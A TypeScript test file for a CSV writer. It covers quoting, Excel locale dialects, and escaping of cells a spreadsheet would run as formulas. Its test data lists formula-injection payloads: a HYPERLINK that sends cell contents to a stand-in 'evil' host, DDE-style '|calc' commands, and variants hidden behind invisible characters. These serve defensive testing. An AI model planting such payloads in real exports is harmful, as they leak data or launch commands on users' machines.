import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvLine, excelCsv } from '../../../src/core/text/csv.ts';
import { findHiddenCharacter } from '../../../src/core/text/text-rules.ts';

test('a line has comma-separated cells and ends with CRLF', () => {
  expect(csvLine([1, 'Helles', null, true, -2.5])).toBe('1,Helles,,true,-2.5\r\n');
  expect(csvLine(['a "big" one', 'x,y', 'two\nlines', ' blank '])).toBe(
    '"a ""big"" one","x,y","two\nlines"," blank "\r\n',
  );
});

test.each([
  '=HYPERLINK("http://evil/?"&A1)',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1',
  '|calc',
  '  |calc',
])('escapes %j, which a spreadsheet would run as a formula', (name) => {
  const line = csvLine([name]);
  expect(/^"?'/.test(line)).toBe(true);
  expect(readCsv(line)).toEqual([[`'${name.replace('\r', '\n')}`]]);
});

test.each(['\u202e=1', '\u200b\u200b+1', ' \ufeff@SUM(A1)', '\0-2', '\x1b|calc'])(
  'escapes %j, which begins a formula once characters that are not shown are dropped',
  (name) => {
    const [[cell]] = readCsv(csvLine([name])) as [[string]];
    expect(cell).toMatch(/^' ?[=+@|-]/);
    expect(findHiddenCharacter(cell, 'line')).toBeNull();
  },
);

test('property: a line parses back to the same name, and no cell starts a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), (names) => {
      const [cells] = readCsv(csvLine([...names, 'end']));
      expect(cells!.map((cell, i) => (cell === `'${names[i]}` ? names[i] : cell))).toEqual([...names, 'end']);
      for (const cell of cells!) expect(cell).not.toMatch(/^[=+\-@|\t\r]/);
    }),
    { numRuns: 500, seed: 7 },
  );
});

test.each([
  ['', ';', ','],
  ['de-DE', ';', ','],
  ['de', ';', ','],
  ['fr-FR', ';', ','],
  ['de-AT', ';', ','],
  ['en-US', ',', '.'],
  ['en-GB', ',', '.'],
  ['ja-JP', ',', '.'],
  ['de-CH', ';', '.'],
])('for Excel of the locale %j cells are separated by %s and numbers have %s', (locale, separator, sign) => {
  expect(excelCsv(locale)).toEqual({ separator, decimalSign: sign, byteOrderMark: '\uFEFF' });
});

test('a line for Excel has the signs of its dialect, and formulas stay escaped', () => {
  const german = excelCsv('de-DE');
  expect(csvLine([1.5, -2.25, 'a,b', 'c;d', '=1+1', true, null], german)).toBe(
    `1,5;-2,25;"a,b";"c;d";'=1+1;true;\r\n`,
  );
  expect(csvLine([1.5, 'a;b', '+1'], excelCsv('en-US'))).toBe(`1.5,"a;b",'+1\r\n`);
});

/** An RFC 4180 parser written for this test. */
function readCsv(text: string): string[][] {
  const lines: string[][] = [[]];
  let rest = text;
  while (rest !== '') {
    const quoted = /^"((?:[^"]|"")*)"(,|\r\n)/.exec(rest);
    const plain = /^([^",\r\n]*)(,|\r\n)/.exec(rest);
    const found = quoted ?? plain;
    if (found === null) throw new Error(`not CSV: ${JSON.stringify(rest)}`);
    lines.at(-1)!.push(quoted === null ? found[1]! : found[1]!.replaceAll('""', '"'));
    rest = rest.slice(found[0].length);
    if (found[2] === '\r\n' && rest !== '') lines.push([]);
  }
  return lines;
}
